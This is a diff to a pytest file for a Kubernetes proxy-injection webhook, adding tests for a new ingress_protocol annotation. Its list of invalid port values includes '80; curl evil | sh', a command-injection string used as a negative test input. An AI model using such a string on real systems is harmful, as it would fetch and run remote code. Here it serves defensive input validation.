@@ -5,6 +5,7 @@ import pytest
 from aegis_api import annotations as names
 from aegis_api.annotations import PREFIX
 from aegis_api.reading import ParseError
+from aegis_proxy.settings import UpstreamProtocol
 from aegis_webhook.decision import Skip, SkipReason
 from aegis_webhook.settings import KNOWN, Egress, Ingress, PodSettings, Redirect, read_pod_settings
 
@@ -27,10 +28,11 @@ def test_everything_that_can_be_asked_for() -> None:
         identity_provider="local",
         log_level="error",
         log_access="true",
+        ingress_protocol="h2c",
         proxy_cpu_limit="1",
     )
     assert isinstance(settings, PodSettings)
-    assert settings.ingress == Ingress((80, 8443), (), ("a", "b"), ("orders.shop.svc", "x.shop.svc"))
+    assert settings.ingress == Ingress((80, 8443), (), ("a", "b"), ("orders.shop.svc", "x.shop.svc"), "h2c")
     assert settings.egress == Egress((5432,), ("10.0.0.0/8", "fd00::/8"))
     assert (settings.identity, settings.provider) == ("orders", "local")
     assert (settings.log_level, settings.log_access) == ("error", True)
@@ -65,7 +67,7 @@ def test_annotations_of_others_are_not_ours() -> None:
 
 BASE = {"ingress": "true", "identity": "orders"}
 TEXTS = ["exclude_inbound_ports", "ingress_policy", "ingress_hosts", "identity", "log_level", "log_access", "redirect"]
-TEXTS += ["identity_provider", "proxy_cpu_request", "proxy_memory_limit", "ingress", "egress"]
+TEXTS += ["identity_provider", "proxy_cpu_request", "proxy_memory_limit", "ingress", "egress", "ingress_protocol"]
 PORTS = ["80; curl evil | sh", "0", "65536", "-1", "８０", "", "80,", "80, 443", "80,80", "080", "1e3", "80\n", "3129"]
 
 
@@ -89,6 +91,8 @@ PORTS = ["80; curl evil | sh", "0", "65536", "-1", "８０", "", "80,", "80, 443
         ({**BASE, "redirect": "none", "exclude_inbound_ports": "1"}, 'aegisproxy.io/redirect: "iptables" beside it'),
         ({**BASE, "proxy_cpu_request": "2", "proxy_cpu_limit": "1"}, 'got "2", wanted at most the limit, 1'),
         ({**BASE, "ingress_hosts": "localhost"}, 'ingress.hosts]: got "localhost"'),
+        ({**BASE, "ingress_protocol": "H2C"}, 'ingress.protocol]: got "H2C", wanted auto or http1 or h2c'),
+        ({"egress": "true", "identity": "a", "ingress_protocol": "h2c"}, 'wanted aegisproxy.io/ingress: "true" beside'),
         ({**BASE, "egres": "true"}, "the unknown annotation aegisproxy.io/egres, wanted a known one: the nearest is"),
     ],
 )
@@ -104,3 +108,11 @@ def test_every_public_annotation_is_known() -> None:
     """What `aegis_api.annotations` names can be asked for."""
     named = {text for text in vars(names).values() if isinstance(text, str) and text.startswith(names.PREFIX)}
     assert sorted(KNOWN) == sorted(named - {names.PREFIX, names.INJECTED_LABEL})
+
+
+@pytest.mark.parametrize("protocol", UpstreamProtocol)
+def test_what_an_app_can_speak_is_what_its_proxy_understands(protocol: UpstreamProtocol) -> None:
+    """Each value of --ingress-protocol."""
+    settings = read(ingress="true", identity="orders", ingress_protocol=protocol.value)
+    assert isinstance(settings, PodSettings)
+    assert settings.ingress == Ingress(protocol=protocol.value)
